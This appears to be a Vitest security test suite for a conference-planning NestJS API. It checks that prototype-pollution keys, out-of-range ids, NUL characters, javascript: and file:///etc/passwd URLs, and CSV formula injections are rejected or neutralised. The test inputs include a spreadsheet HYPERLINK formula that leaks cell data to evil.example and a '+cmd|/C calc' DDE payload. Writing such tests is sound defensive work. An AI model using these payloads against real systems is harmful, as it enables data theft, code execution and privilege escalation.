import type { ArgumentsHost } from '@nestjs/common';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { QueryFailedError } from 'typeorm';
import { ErrorFilter } from '../src/common/error.filter.js';
import { assign, call, review, seat, setUpSummit, submitTalk, summit } from './cfp-fixtures.js';
import { fillPath, listRoutes, pathParams, type Route } from './routes.js';
import { bearer, createTestApp, type TestApp, type TestUser } from './test-app.js';

// Inherited names a client may send where a field name is expected.
const INHERITED_NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'isPrototypeOf',
  '__defineGetter__',
  'prototype',
];
const objectPrototypeKeys = () => Object.getOwnPropertyNames(Object.prototype).sort();
const q = (value: unknown) => encodeURIComponent(JSON.stringify(value));

// Findings 1, 6, 7, 8 and 10 of the security review: what a client sends is checked before it can
// reach shared objects, the database or an organizer's spreadsheet.
describe('security of input', () => {
  let t: TestApp;
  let organizer: TestUser;
  let member: TestUser;
  let routes: Route[];
  let listPaths: string[];
  const prototypeBefore = objectPrototypeKeys();

  beforeAll(async () => {
    t = await createTestApp();
    organizer = await t.user('organizer');
    member = await t.user('member');
    routes = listRoutes(t.app);
    // A list is a parameterless GET that answers with Content-Range.
    listPaths = [];
    for (const route of routes.filter((candidate) => candidate.method === 'GET' && pathParams(candidate.path).length === 0)) {
      const response = await t.http().get(route.path).set(bearer(organizer));
      if (response.headers['content-range']) listPaths.push(route.path);
    }
  });
  afterAll(() => t.close());

  const assertUnpolluted = () => {
    expect(objectPrototypeKeys()).toEqual(prototypeBefore);
    expect(({} as Record<string, unknown>)['event.id']).toBeUndefined();
  };

  describe('prototype keys (finding 1)', () => {
    it('runs, as production does, without the __proto__ accessor (--disable-proto=delete)', () => {
      expect(Object.getOwnPropertyDescriptor(Object.prototype, '__proto__')).toBeUndefined();
    });

    it('finds the lists, public ones included', () => {
      expect(listPaths).toEqual(
        expect.arrayContaining(['/api/events', '/api/public/events', '/api/submissions', '/api/audit-log', '/api/contest-entries']),
      );
      expect(listPaths.length).toBeGreaterThan(20);
    });

    it('refuses inherited names as sort fields on every list with a 400', async () => {
      const wrong: string[] = [];
      for (const path of listPaths) {
        for (const name of INHERITED_NAMES) {
          const response = await t
            .http()
            .get(`${path}?sort=${q([name, 'ASC'])}`)
            .set(bearer(organizer));
          if (response.status !== 400 || response.body.code !== 'REQUEST.BAD_LIST_QUERY' || !response.body.errors?.sort)
            wrong.push(`${path} sort ${name} → ${response.status}`);
        }
      }
      expect(wrong).toEqual([]);
      assertUnpolluted();
    });

    it('refuses inherited names as filter fields, with or without a range suffix, on every list with a 400', async () => {
      const wrong: string[] = [];
      for (const path of listPaths) {
        for (const name of INHERITED_NAMES) {
          for (const key of [name, `${name}_gte`]) {
            const filter = `{${JSON.stringify(key)}: {"polluted": "yes"}}`;
            const response = await t
              .http()
              .get(`${path}?filter=${encodeURIComponent(filter)}`)
              .set(bearer(organizer));
            if (response.status !== 400 || response.body.code !== 'REQUEST.BAD_LIST_QUERY')
              wrong.push(`${path} filter ${key} → ${response.status}`);
          }
        }
      }
      expect(wrong).toEqual([]);
      assertUnpolluted();
    });

    it('keeps a visitor from poisoning the process through a public list', async () => {
      const response = await t.http().get(`/api/public/events?sort=${q(['__proto__', 'ASC'])}`);
      expect(response.status).toBe(400);
      expect(response.body.message).toMatch(/Cannot sort events by "__proto__"/);
      assertUnpolluted();
      // Sign-in and forms still work afterwards.
      expect((await t.http().get('/api/events').set(bearer(member))).status).toBe(200);
    });

    it('refuses or ignores inherited names in request bodies on every route, without polluting anything', async () => {
      const wrong: string[] = [];
      const bodies = [
        '{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}',
        '{"name": "x", "__proto__": {"role": "organizer"}}',
        '{"constructor": "x"}',
      ];
      for (const route of routes.filter((candidate) => candidate.method === 'POST' || candidate.method === 'PUT')) {
        if (route.path.startsWith('/api/auth/')) continue;
        for (const body of bodies) {
          const http = t.http();
          const send = route.method === 'POST' ? http.post(fillPath(route.path, () => 1)) : http.put(fillPath(route.path, () => 1));
          const response = await send.set(bearer(organizer)).set('Content-Type', 'application/json').send(body);
          if (response.status >= 500 || (response.status < 300 && JSON.stringify(response.body).includes('polluted')))
            wrong.push(`${route.method} ${route.path} → ${response.status}`);
        }
      }
      expect(wrong).toEqual([]);
      assertUnpolluted();
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(({} as Record<string, unknown>).role).toBeUndefined();
    });

    it('names an unknown "__proto__" or "constructor" field in a strict body', async () => {
      const response = await t
        .http()
        .post('/api/events')
        .set(bearer(organizer))
        .set('Content-Type', 'application/json')
        .send(JSON.stringify(summit).replace('{', '{"__proto__": {"x": 1}, "constructor": 1, '));
      expect(response.status).toBe(400);
      expect(response.body.errors).toMatchObject({ __proto__: 'is not a known field', constructor: 'is not a known field' });
    });
  });

  describe('absent bodies and ids (finding 10)', () => {
    it('reads an action sent with no body at all as an empty one', async () => {
      const event = await call(
        t
          .http()
          .post('/api/events')
          .set(bearer(organizer))
          .send({ ...summit, slug: 'no-body-summit' }),
        201,
      );
      const response = await t.http().post(`/api/events/${event.id}/confirm`).set(bearer(organizer));
      expect(response.status, JSON.stringify(response.body)).toBe(200);
      expect(response.body.status).toBe('confirmed');
    });

    it('tells a create sent with no body which fields it misses', async () => {
      const response = await t.http().post('/api/events').set(bearer(organizer));
      expect(response.status).toBe(400);
      expect(response.body.errors).toMatchObject({ name: 'is required', startDate: 'is required' });
      expect(JSON.stringify(response.body)).not.toMatch(/expected object/);
    });

    it('answers 404 for ids that cannot name a record on every route with an id in its path', async () => {
      const badIds = ['0', '-1', '00', 'abc', '1e3', '1.5', '2147483648', '9999999999', '99999999999999999999999', ' 1', '0x10'];
      const wrong: string[] = [];
      for (const route of routes.filter((candidate) => pathParams(candidate.path).some((param) => /id$/i.test(param)))) {
        for (const bad of badIds) {
          for (const param of pathParams(route.path).filter((name) => /id$/i.test(name))) {
            const path = fillPath(route.path, (name) => (name === param ? bad : name === 'kind' ? 'artwork' : 1));
            const response = await t.http()[route.method.toLowerCase() as 'get'](path).set(bearer(organizer));
            if (response.status !== 404 || response.body.code !== 'RECORD.NOT_FOUND')
              wrong.push(`${route.method} ${path} → ${response.status}`);
          }
        }
      }
      expect(wrong).toEqual([]);
      // One request per route, id and bad value, one after another: minutes on a busy machine.
    }, 180_000);

    it('answers the largest PostgreSQL integer id with a plain 404', async () => {
      const response = await t.http().get('/api/events/2147483647').set(bearer(organizer));
      expect(response.status).toBe(404);
    });

    it('refuses ids in bodies beyond the integer range before the database', async () => {
      const response = await t.http().post('/api/votes').set(bearer(member)).send({ contestId: 2147483648, entryId: 1 });
      expect(response.status).toBe(400);
      expect(response.body.errors).toHaveProperty('contestId');
      const ledger = await t
        .http()
        .post('/api/ledger-entries')
        .set(bearer(organizer))
        .send({ budgetId: 1e12, kind: 'expense', amount: 100, currency: 'USD', memo: 'x' });
      expect(ledger.status).toBe(400);
      expect(ledger.body.errors).toHaveProperty('budgetId');
    });

    it('refuses NUL characters in bodies, paths and queries with a 400', async () => {
      expect(
        (
          await t
            .http()
            .post('/api/events')
            .set(bearer(organizer))
            .send({ ...summit, name: 'Xen\u0000Summit' })
        ).status,
      ).toBe(400);
      expect((await t.http().get('/api/public/events/xen%00summit')).status).toBe(400);
      expect(
        (
          await t
            .http()
            .get(`/api/events?filter=${q({ q: 'a\u0000b' })}`)
            .set(bearer(organizer))
        ).status,
      ).toBe(400);
    });
  });

  describe('errors (finding 8)', () => {
    it('names the field of a unique violation without copying the values PostgreSQL reports', async () => {
      const secret = `secret-${Date.now()}@example.test`;
      await t.dataSource.query(`INSERT INTO app_user (email, name, role, password_hash) VALUES ($1, 'A', 'member', 'x')`, [secret]);
      const error = await t.dataSource
        .query(`INSERT INTO app_user (email, name, role, password_hash) VALUES ($1, 'B', 'member', 'x')`, [secret.toUpperCase()])
        .catch((caught: unknown) => caught);
      expect(error).toBeInstanceOf(QueryFailedError);
      expect((error as { detail: string }).detail).toContain(secret);
      let status = 0;
      let body: Record<string, unknown> = {};
      const response = {
        setHeader: () => undefined,
        status: (code: number) => ({ json: (sent: Record<string, unknown>) => ((status = code), (body = sent)) }),
      };
      new ErrorFilter().catch(error, { switchToHttp: () => ({ getResponse: () => response }) } as unknown as ArgumentsHost);
      expect(status).toBe(409);
      expect(body).toMatchObject({ code: 'RECORD.DUPLICATE', errors: { email: 'is already taken' } });
      expect(JSON.stringify(body).toLowerCase()).not.toContain(secret.toLowerCase());
    });
  });

  describe('URL schemes (finding 7)', () => {
    it.each([
      'javascript:alert(document.cookie)',
      'data:text/html,<script>alert(1)</script>',
      'vbscript:msgbox(1)',
      'file:///etc/passwd',
      'JAVASCRIPT:alert(1)',
    ])('refuses %s as an event website', async (website) => {
      const created = await t
        .http()
        .post('/api/events')
        .set(bearer(organizer))
        .send({ ...summit, website });
      expect(created.status).toBe(400);
      expect(created.body.errors.website).toMatch(/http/);
      const event = await call(
        t
          .http()
          .post('/api/events')
          .set(bearer(organizer))
          .send({ ...summit, website: 'https://xenproject.org' }),
        201,
      );
      const updated = await t
        .http()
        .put(`/api/events/${event.id}`)
        .set(bearer(organizer))
        .send({ ...event, website });
      expect(updated.status).toBe(400);
      expect(updated.body.errors.website).toMatch(/http/);
    });
  });

  describe('spreadsheet formulas (finding 6)', () => {
    it('neutralises member-written text in the reviews CSV and keeps numbers', async () => {
      const s = await setUpSummit(t);
      const speaker = await t.user('member', { name: 'Speaker' });
      const reviewer = await t.user('member', { name: '@Reviewer' });
      await seat(t, s, reviewer);
      const talk = await submitTalk(t, s, speaker, { title: '=HYPERLINK("https://evil.example/?"&A1,"Xen")' });
      await assign(t, s, talk.id as number, reviewer);
      await review(t, reviewer, talk.id as number, -2, { commentToSpeakers: '+cmd|/C calc!A0', commentToCommittee: '-1+1' });
      const csv = await t.http().get(`/api/cfps/${s.cfpId}/reviews.csv`).set(bearer(s.organizer));
      expect(csv.status).toBe(200);
      const row = csv.text.split('\n')[1];
      expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Xen"")"`);
      expect(row).toContain(`'@Reviewer`);
      expect(row).toContain(`'+cmd|/C calc!A0`);
      expect(row).toContain(`'-1+1`);
      expect(row).toMatch(/,-2,/);
      expect(csv.text).not.toMatch(/(^|,)[=+@]/m);
    });
  });
});
